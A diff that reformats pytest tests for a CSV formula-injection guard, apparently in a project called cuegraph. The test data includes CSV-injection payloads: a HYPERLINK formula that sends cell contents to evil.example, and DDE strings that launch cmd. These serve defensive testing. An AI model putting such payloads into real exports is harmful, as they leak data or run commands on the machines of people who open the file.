@@ -14,9 +14,15 @@ import pytest
 from cuegraph.csvguard import FORMULA_STARTS
 from support import cuegraph_cmd
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
-           "=1,2;\"3\"\n=4"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=1,2;"3"\n=4',
+]
 PLAIN = ["Yuki Kajiura", "a=b", "梶浦由記", ""]
 NUMBERS = ["-5", "+1.5e3", "-0.25"]
 
@@ -26,8 +32,13 @@ def store_url(tmp_path_factory):
     tmp = tmp_path_factory.mktemp("csvguard")
     lines = ["@prefix schema: <https://schema.org/> ."]
     for i, v in enumerate(HOSTILE + PLAIN):
-        text = v.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") \
-            .replace("\r", "\\r").replace("\t", "\\t")
+        text = (
+            v.replace("\\", "\\\\")
+            .replace('"', '\\"')
+            .replace("\n", "\\n")
+            .replace("\r", "\\r")
+            .replace("\t", "\\t")
+        )
         lines.append(f'<urn:x:s{i:02d}> schema:name "{text}" .')
     for i, v in enumerate(NUMBERS):
         lines.append(f'<urn:x:n{i:02d}> schema:value "{v}" .')  # as written, not normalised
@@ -41,8 +52,12 @@ def store_url(tmp_path_factory):
 
 def _query_csv(url: str, query: str) -> list[list[str]]:
     exe = Path(sys.executable).with_name("cuegraph")  # bytes: a CR inside a cell stays a CR
-    res = subprocess.run([str(exe), "--store", url, "query", "-f", "csv", query],
-                         capture_output=True, timeout=120, check=False)
+    res = subprocess.run(
+        [str(exe), "--store", url, "query", "-f", "csv", query],
+        capture_output=True,
+        timeout=120,
+        check=False,
+    )
     assert res.returncode == 0, res.stderr
     return list(csv.reader(io.StringIO(res.stdout.decode("utf-8"), newline="")))
 
@@ -85,14 +100,24 @@ def test_detected_cue_csv_is_guarded_and_reads_back(tmp_path):
 
     from cuegraph.audio.cues import DetectedRow, read_csv, write_csv
 
-    row = DetectedRow(work="anohana", episode=5, start=Decimal("10"), end=Decimal("20"),
-                      title=HOSTILE[0], usage="insert", recording="https://example.org/rec",
-                      confidence=0.9, method="chromaprint-ber", source="@ep5.mkv",
-                      notes="-2+3+cmd|' /C calc'!A0")
+    row = DetectedRow(
+        work="anohana",
+        episode=5,
+        start=Decimal("10"),
+        end=Decimal("20"),
+        title=HOSTILE[0],
+        usage="insert",
+        recording="https://example.org/rec",
+        confidence=0.9,
+        method="chromaprint-ber",
+        source="@ep5.mkv",
+        notes="-2+3+cmd|' /C calc'!A0",
+    )
     path = tmp_path / "detected.csv"
     write_csv(path, [row])
-    cells = [c for r in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
-             for c in r]
+    cells = [
+        c for r in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for c in r
+    ]
     assert all(not c or c[0] not in FORMULA_STARTS for c in cells)
     assert "'" + HOSTILE[0] in cells and "'@ep5.mkv" in cells
     assert read_csv(path) == [row]
